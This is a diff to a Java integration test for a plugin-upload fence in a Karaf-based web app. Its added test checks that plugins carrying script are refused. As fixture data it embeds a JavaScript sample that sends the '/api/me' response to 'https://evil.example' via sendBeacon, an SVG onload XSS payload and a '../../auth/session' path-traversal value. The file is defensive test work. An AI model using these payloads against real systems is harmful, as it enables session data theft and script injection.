@@ -57,9 +57,7 @@ public class UnitPluginFenceIT extends UnionKarafTestSupport {
     public void attacksAreRefusedAndNothingOfThemStays() throws Exception {
         awaitStatus("/api/health", 200, BOOT_TIMEOUT);
         Rest operator = asAdmin();
-        long mining = Fixtures.unit(operator, "MINING");
-        Fixtures.importMembers(operator, "UF0001,张围,M,1980-01-01,13900000201,uf1@cumt.edu.cn,MINING,ACTIVE,\n");
-        Rest miningAdmin = withToken(login(Fixtures.account(operator, "UF0001", mining), Fixtures.PASSWORD));
+        Rest miningAdmin = miningAdmin(operator, "UF0001,张围,M,1980-01-01,13900000201,uf1@cumt.edu.cn,MINING,ACTIVE,\n");
         byte[] outing = Files.readAllBytes(Paths.get(System.getProperty(OUTING_JAR)));
         int bundlesBefore = bundleContext.getBundles().length;
 
@@ -112,9 +110,7 @@ public class UnitPluginFenceIT extends UnionKarafTestSupport {
     public void databaseAttacksAreRefusedBeforeAnythingRuns() throws Exception {
         awaitStatus("/api/health", 200, BOOT_TIMEOUT);
         Rest operator = asAdmin();
-        long mining = Fixtures.unit(operator, "MINING");
-        Fixtures.importMembers(operator, "UF0002,张库,M,1980-01-01,13900000202,uf2@cumt.edu.cn,MINING,ACTIVE,\n");
-        Rest miningAdmin = withToken(login(Fixtures.account(operator, "UF0002", mining), Fixtures.PASSWORD));
+        Rest miningAdmin = miningAdmin(operator, "UF0002,张库,M,1980-01-01,13900000202,uf2@cumt.edu.cn,MINING,ACTIVE,\n");
         byte[] outing = Files.readAllBytes(Paths.get(System.getProperty(OUTING_JAR)));
         java.nio.file.Path data = Paths.get(System.getProperty("karaf.data"));
         java.nio.file.Path stolen = data.resolve("stolen.csv");
@@ -164,6 +160,49 @@ public class UnitPluginFenceIT extends UnionKarafTestSupport {
         assertEquals(200, operator.get("/api/me").status());
     }
 
+    /**
+     * A unit plugin's pages are data the app draws as text: a script, a page, an SVG or any other file
+     * for the web app, or a page declaration that brings script or leaves the plugin's API, is refused
+     * at upload with each reason, and nothing of it is installed or listed.
+     */
+    @Test
+    public void webPagesThatCouldRunScriptAreRefused() throws Exception {
+        awaitStatus("/api/health", 200, BOOT_TIMEOUT);
+        Rest operator = asAdmin();
+        Rest miningAdmin = miningAdmin(operator, "UF0003,张页,M,1980-01-01,13900000203,uf3@cumt.edu.cn,MINING,ACTIVE,\n");
+        byte[] outing = Files.readAllBytes(Paths.get(System.getProperty(OUTING_JAR)));
+        int bundlesBefore = bundleContext.getBundles().length;
+
+        byte[] scripts = withEntries(outing, Map.of(
+                "UI-INF/pages/steal.js", "fetch('/api/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))"
+                        .getBytes(StandardCharsets.UTF_8),
+                "UI-INF/index.html", "<script src=\"pages/steal.js\"></script>".getBytes(StandardCharsets.UTF_8),
+                "UI-INF/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".getBytes(StandardCharsets.UTF_8)));
+        String reasons = refused(miningAdmin, scripts);
+        for (String file : new String[] { "UI-INF/pages/steal.js", "UI-INF/index.html", "UI-INF/logo.svg" }) {
+            assertTrue(reasons, reasons.contains(file + ": a unit plugin may have only pages.json under UI-INF/"));
+        }
+
+        String module = "{\"title\":{\"zh\":\"远足\",\"en\":\"Outing\"},\"pages\":[{\"id\":\"x\",\"kind\":\"module\","
+                + "\"roles\":[\"member\"],\"module\":\"pages/x.js\"},{\"id\":\"y\",\"kind\":\"detail\",\"roles\":[\"member\"],"
+                + "\"source\":\"../../auth/session\",\"fields\":[{\"field\":\"a\",\"label\":{\"zh\":\"甲\",\"en\":\"A\"}}]}]}";
+        reasons = refused(miningAdmin, withEntries(outing, Map.of("UI-INF/pages.json", module.getBytes(StandardCharsets.UTF_8))));
+        assertTrue(reasons, reasons.contains("a unit plugin may declare data pages only, no script (module)"));
+        assertTrue(reasons, reasons.contains("$.pages[1].source: must be a path relative to /api/<plugin-id>/"));
+
+        assertEquals("a refused upload left a bundle behind", bundlesBefore, bundleContext.getBundles().length);
+        assertNull(bundle(OUTING_BSN));
+        assertFalse(operator.get("/api/plugins").body().contains("\"outing\""));
+        assertFalse(operator.get("/api/ui/pages").body().contains("\"outing\""));
+    }
+
+    /** Makes the member of this CSV row (in MINING) an administrator of MINING and logs them in. */
+    private Rest miningAdmin(Rest operator, String memberRow) {
+        long mining = Fixtures.unit(operator, "MINING");
+        Fixtures.importMembers(operator, memberRow);
+        return withToken(login(Fixtures.account(operator, memberRow.substring(0, memberRow.indexOf(',')), mining), Fixtures.PASSWORD));
+    }
+
     /** The plugin with one more change set in its changelog. */
     private static byte[] withChangeSet(byte[] jar, String changes) {
         return PluginJars.variant(jar, Map.of(), Map.of("db/changelog.xml", xml -> xml.replace("</databaseChangeLog>",
@@ -192,13 +231,16 @@ public class UnitPluginFenceIT extends UnionKarafTestSupport {
         return withEntries(jar, added, 0);
     }
 
-    /** The jar with more entries; with {@code zeros > 0} every added entry holds that many zero bytes, deflated. */
+    /** The jar with more (or replaced) entries; with {@code zeros > 0} every added entry holds that many zero bytes, deflated. */
     private static byte[] withEntries(byte[] jar, Map<String, byte[]> added, int zeros) throws IOException {
         ByteArrayOutputStream bytes = new ByteArrayOutputStream();
         try (JarInputStream in = new JarInputStream(new ByteArrayInputStream(jar));
                 JarOutputStream out = new JarOutputStream(bytes, in.getManifest())) {
             JarEntry entry;
             while ((entry = in.getNextJarEntry()) != null) {
+                if (added.containsKey(entry.getName())) {
+                    continue; // replaced
+                }
                 out.putNextEntry(new JarEntry(entry.getName()));
                 in.transferTo(out);
                 out.closeEntry();
